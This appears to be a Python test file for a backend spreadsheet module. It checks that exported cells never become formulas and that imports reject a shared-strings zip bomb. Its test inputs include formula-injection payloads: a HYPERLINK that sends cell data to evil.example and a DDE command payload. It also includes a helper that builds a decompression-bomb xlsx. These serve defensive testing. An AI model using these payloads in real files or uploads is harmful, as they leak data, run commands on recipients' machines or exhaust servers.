"""Finding 3 and 5: the one spreadsheet writer never makes a formula cell, and the one reader
refuses a bomb before parsing it. (The panel's exports and imports are tested through their
routes in tests/tickets/test_export_cells.py and tests/admin/test_import_bomb.py.)"""

from __future__ import annotations

import io
import pathlib
import re
import time
import zipfile

import pytest
from openpyxl import load_workbook

from backend.core import sheets

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "控制\x01字符",
]


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_the_writer_keeps_every_text_as_typed_and_makes_no_formula():
    data = sheets.write_bytes(
        sheets.Sheet("=表", ["=标题", "数"], [[text, 3] for text in HOSTILE], preamble=[["-x"]])
    )
    cells = _cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if c.column == 1]
    assert texts[:2] == ["-x", "=标题"]
    # as typed: no ' prefix, the leading blank kept; CR reads back as an XML line break
    shown = texts[2:]
    assert shown[:6] == HOSTILE[:6] and shown[7] == " =1+1"
    assert shown[6] in ("\r=1+1", "\n=1+1")
    assert shown[8] == "控制\ufffd字符"
    raw = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw and b"<f " not in raw


def test_no_module_writes_a_workbook_but_the_one_writer():
    root = pathlib.Path(__file__).parents[2]
    writers = [
        str(path.relative_to(root))
        for folder in ("backend", "admin")
        for path in (root / folder).rglob("*.py")
        if re.search(r"\bWorkbook\(|load_workbook\(|\.save\(.*\)", path.read_text())
        and re.search(r"openpyxl", path.read_text())
    ]
    assert writers == ["backend/core/sheets.py"]


def _bomb(strings: int) -> bytes:
    """An xlsx whose sharedStrings.xml holds ``strings`` entries (tiny once zipped)."""
    buffer = io.BytesIO()
    entry = b"<si><t>a</t></si>"
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"/>',
        )
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", "<worksheet><sheetData/></worksheet>")
        archive.writestr(
            "xl/sharedStrings.xml",
            b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            + entry * strings
            + b"</sst>",
        )
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("strings", "message"), [(3_000_000, "解压后过大"), (1_500_000, "单元格过多")]
)
def test_the_reader_refuses_a_shared_strings_bomb_before_parsing(strings, message):
    data = _bomb(strings)
    assert len(data) < 200_000
    started = time.process_time()
    with pytest.raises(sheets.SheetRefused, match=message):
        sheets.open_workbook(data, max_cells=(20000 + 2) * 64)
    assert time.process_time() - started < 2
